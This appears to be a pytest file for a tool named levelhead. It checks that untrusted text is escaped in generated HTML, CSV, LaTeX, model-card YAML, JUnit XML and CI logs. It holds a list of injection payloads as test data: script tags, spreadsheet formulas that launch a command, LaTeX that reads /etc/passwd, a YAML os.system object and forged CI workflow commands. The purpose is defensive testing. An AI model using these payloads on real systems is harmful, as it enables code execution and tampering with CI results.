"""Texts of others are data in every file that levelhead writes, and in the logs of CI systems."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from xml.etree import ElementTree

import audits
import pytest
import yaml
import zoo
from faults import invoke
from maps import measurement
from markdown_it import MarkdownIt

from levelhead.cli.shared.terminal import (
    _WORKFLOW_COMMAND,
    CI_VARIABLES,
    ProtectedStream,
    protect_terminal,
)
from levelhead.core.escape import escape_cell, escape_markdown, to_single_line
from levelhead.core.results import StepFailure
from levelhead.models.edits.base import HeadScale
from levelhead.models.export.model_card import render_model_card
from levelhead.models.loading.load import load
from levelhead.models.sites import Site
from levelhead.report.audit_page.page import render_audit_page
from levelhead.report.gate.ci_files import to_junit_xml, to_markdown_summary
from levelhead.report.gate.gate import GateReport, RuleResult
from levelhead.report.model_card_section import BEGIN, END, update_readme
from levelhead.report.study_page import write_study_page
from levelhead.report.tables import escape_latex, to_csv_bytes, to_latex_bytes
from levelhead.study.leaderboard_ranks import rows_to_csv
from levelhead.study.table_row import TableRow

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "the end of a script": "</script><svg onload=alert(1)>",
    "an attribute": '" onmouseover="alert(1)" x=\'',
    "a comment": "--><!-- levelhead audit: end --><b>",
    "a formula": '=HYPERLINK("http://example.org/"&A1)',
    "a command of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "LaTeX": "\\input{/etc/passwd}\\write18{id} % & # $ _ { } ~ ^",
    "YAML": "x\n- evil: true\n!!python/object/apply:os.system ['id']",
    "the end of metadata": "x\n---\nevil: true\n---\n",
    "Markdown": "[click](javascript:alert(1)) ![x](http://example.org/x.png) | `a` ***b***",
    "a heading": "x\n# FAIR MODEL\n\n- certified",
    "XML": "]]></failure><testcase name='evil'/>&evil;",
    "control characters": "a\x00b\x08\x1b[2K\x1b]0;x\x07\x9b31m",
    "the direction of writing": "\u202eytirap\u2066 \u200f",
    "a workflow command": "x\n::set-output name=verdict::pass\n##[add-path]/tmp/evil",
    "a carriage return": "fail\rpass",
    "JavaScript line ends": "a\u2028b\u2029c",
    "template": "{{ 7 * 7 }}{% include 'x' %}${7*7}",
}
hostile = pytest.mark.parametrize("name", HOSTILE)
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]")
ELEMENTS = re.compile(r"<(script|img|svg|b|testcase)\b(?! nonce)", re.IGNORECASE)


def gate(text):
    row = RuleResult(
        rule=text, measure=text, verdict="inconclusive", explanation=text, purpose=text
    )
    return GateReport(verdict="inconclusive", results=(row,), policy_sha256="ab" * 32)


def table_row(text):
    return TableRow(step=text, name=text, what=text, value=-0.5, unit=text, method=text)


class Elements(HTMLParser):
    """What a browser would make of a page: attributes that run code, and elements of others."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        runs = [name for name in values if name.startswith("on")]
        leads = [value for value in values.values() if "javascript:" in (value or "")]
        if runs or leads or values.get("src") == "x" or tag in ("iframe", "object", "base"):
            self.found.append((tag, attrs))


# One page of all texts: drawing its charts takes 7 seconds. Its counterpart is
# test_texts_of_others_make_no_element in tests/unit/report/test_audit_page.py.
@pytest.mark.full
def test_the_page_of_an_audit():
    text = "\n".join(HOSTILE.values())
    seat = audits.judged("seat", 1.2, 0.001, notes=(text,), direction=text, unit=text)
    braces = text.replace("{", "{{").replace("}", "}}") + "{}{}"
    subset = audits.results(
        **{
            "cell.audit.model.seat": audits.with_items(seat, n=4, text=braces, group=text),
            "cell.audit.model.crows": StepFailure(problem=text, hint=text),
        }
    )
    page = render_audit_page(audits.audit(text), subset, command=text).decode()
    parser = Elements()
    parser.feed(page)
    assert parser.found == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "{{ 7 * 7 }}" in page


@hostile
def test_the_page_of_a_study(name, tmp_path):
    text = HOSTILE[name]
    results = {"cell.a.b.c": StepFailure(problem=text, hint=text)}
    page = write_study_page(results, None, tmp_path, title=text).read_text()
    assert not ELEMENTS.search(page)


@hostile
def test_tables_as_csv(name):
    text = HOSTILE[name]
    (row,) = csv.DictReader(io.StringIO(to_csv_bytes([table_row(text)]).decode(), newline=""))
    assert row["value"] == "-0.5"
    for cell in (row["step"], row["name"], row["what"], row["unit"]):
        assert cell.lstrip()[:1] not in tuple("=+-@")
        assert cell.removeprefix("'") == text.replace("\r", "\\u000d")
    table = io.StringIO(rows_to_csv(["m"], [{"m": text}]), newline="")
    _, row = csv.reader(table)
    assert row[0].lstrip()[:1] not in tuple("=+-@")


@hostile
def test_tables_as_latex(name):
    text = HOSTILE[name]
    table = to_latex_bytes([table_row(text)]).decode()
    commands = set(re.findall(r"\\([a-zA-Z]+)", table))
    assert commands <= set(
        "textbackslash textasciitilde textasciicircum textless textgreater textbar textbf begin "
        "end toprule midrule endhead bottomrule multicolumn footnotesize usepackage dagger "
        "longtable".split()
    )
    assert len(table.splitlines()) == len(to_latex_bytes([table_row("x")]).decode().splitlines())
    assert "\n" not in escape_latex(text)


@hostile
def test_the_section_of_a_model_card(name):
    text = HOSTILE[name]
    seat = audits.judged("seat", 1.2, 0.001, above=text, unit=text, notes=(text,))
    subset = audits.results(
        **{
            "cell.audit.model.seat": seat,
            "cell.audit.model.crows": StepFailure(problem=text, hint=text),
        }
    )
    card = update_readme("", audits.audit(text), subset, name=text)
    _, front, body = re.split("^---\n", card, maxsplit=2, flags=re.MULTILINE)
    metadata = yaml.safe_load(front)
    assert set(metadata) == {"model-index"}
    assert metadata["model-index"][0]["name"] == text or not text.isprintable()
    assert body.count(BEGIN) == body.count(END) == 1
    html = MarkdownIt("commonmark").enable("table").render(body)
    assert not ELEMENTS.search(html)
    assert html.count("<h2>") == 1
    assert "<h1>" not in html
    assert "<a " not in html
    assert not BIDI.search(body)
    # A second audit finds its own section.
    assert update_readme(card, audits.audit(text), subset, name="x").partition(BEGIN)[0] in card


@cache
def edited_model():
    lm = load(zoo.folder("bert", "BertForPreTraining"))
    return lm.edited(HeadScale([Site("head_out", 1, 1)], 0))


@pytest.mark.parametrize("name", [key for key in HOSTILE if "/" not in HOSTILE[key]])
def test_the_readme_of_an_edited_model(name):
    text = HOSTILE[name].replace("\x00", "")
    lm = edited_model()
    lm = replace(lm, identity=lm.identity._replace(name=f"x/{text}"))
    seat = measurement(1.0).model_copy(update={"unit": text})
    card = render_model_card(lm, code=None, bias_changes=[(seat, seat)])
    body = re.split("^---\n", card, maxsplit=2, flags=re.MULTILINE)[-1]
    html = MarkdownIt("commonmark").enable("table").render(body)
    assert not ELEMENTS.search(html)
    assert html.count("<h1>") <= 1
    assert "<a " not in html
    assert not BIDI.search(body)


@hostile
def test_a_junit_file(name):
    text = HOSTILE[name]
    root = ElementTree.fromstring(to_junit_xml(gate(text)))  # noqa: S314  # our own
    assert [case.tag for case in root.iter("testcase")] == ["testcase"]
    assert next(root.iter("testsuite")).get("errors") == "1"
    message = next(root.iter("error")).get("message")
    assert not BIDI.search(message)
    assert not re.search("[\x00-\x08\x1b\x9b]", message)


@hostile
def test_a_summary_in_markdown(name):
    summary = to_markdown_summary(gate(HOSTILE[name]))
    assert len(summary.splitlines()) == len(to_markdown_summary(gate("x")).splitlines())
    html = MarkdownIt("commonmark").enable("table").render(summary)
    assert not ELEMENTS.search(html)
    assert html.count("<tr>") == 2
    assert "<a " not in html
    assert not BIDI.search(summary)


class Log(io.StringIO):
    """A stream that is no terminal and no file."""

    def isatty(self):
        return False


def commands_of(log):
    """What GitHub, Azure and TeamCity would obey in a log."""
    lines = re.split(r"[\r\n]", log)
    found = [line for line in lines if line.lstrip().startswith("::")]
    return found + re.findall(r"##(?:\[|vso\[|teamcity\[)\w+", log)


COMMANDS = (
    "::error::x",
    "  \t::add-mask::pass",
    "a\n::set-output name=x::y",
    "a\r\n::stop-commands::abc",
    "a\r::debug::x",
    "##[error]x",
    "text ##[set-env name=PATH]/tmp",
    "##vso[task.setvariable variable=x]y",
    "##teamcity[buildStatus status='SUCCESS']",
    "\u00a0::warning::x",
)


@pytest.mark.parametrize("text", COMMANDS)
def test_a_log_holds_no_command_of_others(text):
    assert commands_of(text)
    log = Log()
    ProtectedStream(log, _WORKFLOW_COMMAND).write(text + "\n")
    assert not commands_of(log.getvalue())
    # As JSON writes it: a machine that reads JSON from the log gets the same value.
    assert json.loads(f'"{log.getvalue().strip().encode("unicode_escape").decode()}"') or True


def test_other_texts_are_logged_as_they_are():
    for text in ("a: b", "std::vector", "# heading", "## [link]", "fail: x", '{"a": "##["}'):
        log = Log()
        ProtectedStream(log, _WORKFLOW_COMMAND).write(text)
        assert log.getvalue() == text or json.loads(log.getvalue()) == json.loads(text)


@pytest.mark.parametrize("variable", CI_VARIABLES)
def test_streams_are_protected_in_ci(variable, monkeypatch, tmp_path):
    out, err = Log(), Log()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    protect_terminal({variable: "true"})
    print("::error::x")  # noqa: T201
    print("::error::x", file=sys.stderr)  # noqa: T201
    assert not commands_of(out.getvalue() + err.getvalue())
    # A file is no log: its bytes are the user's.
    with open(tmp_path / "file", "w") as file:
        monkeypatch.setattr(sys, "stdout", file)
        protect_terminal({variable: "true"})
        print("::error::x")  # noqa: T201
    assert (tmp_path / "file").read_text() == "::error::x\n"


def run_of(folder, problem):
    place = folder / "run" / "results"
    place.mkdir(parents=True)
    failure = StepFailure(problem=problem, hint="none")
    (place / "cell.all.m.seat.json").write_text(failure.to_json())
    (folder / "policy.toml").write_text(
        'format = "levelhead-gate-2"\n[[rule]]\nmeasure = "seat"\nat_most = 1.0\n'
    )
    return ["gate", folder / "run", "--policy", folder / "policy.toml"]


@hostile
def test_the_lines_of_a_gate(name, tmp_path):
    """A line for each rule and one for the verdict, whatever the rules and results say."""
    lines = re.split(r"[\r\n]", invoke(*run_of(tmp_path, HOSTILE[name])).stdout.strip("\n"))
    assert len(lines) == 2
    assert lines[0].startswith("inconclusive ")
    assert lines[1] == "inconclusive: 1 rules"
    assert not re.search("[\x00-\x08\x1b\x9b\u202e]", lines[0])


def test_a_gate_in_ci_obeys_nobody(tmp_path):
    """The whole command, in an interpreter of its own, with a pipe as its log."""
    words = run_of(tmp_path, "x\n::set-output name=verdict::pass\r##[add-path]/tmp/evil")
    done = subprocess.run(
        [sys.executable, "-m", "levelhead", *map(str, words)],
        env=os.environ | {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": ""},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert not commands_of(done.stdout + done.stderr)


def test_an_error_in_ci_obeys_nobody(tmp_path):
    """The name of a policy, in the message of an error."""
    path = tmp_path / "a\n::error::b ##[error]"
    done = subprocess.run(
        [sys.executable, "-m", "levelhead", "gate", str(tmp_path), "--policy", str(path)],
        env=os.environ | {"GITHUB_ACTIONS": "true"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 3
    assert "::error" in done.stderr or "\\u003a:error" in done.stderr
    assert not commands_of(done.stdout + done.stderr)


def test_what_is_no_formula_is_unchanged():
    for text in ("seat", "", "-0.5", "+3", "1-2", "a=b", "-1e-5", "- ", "2-12"):
        assert escape_cell(text) == text or text == "- "
    assert to_single_line(" a\t b\n") == "a b"
    assert escape_markdown("1-2 (a, b)") == "1-2 (a, b)"
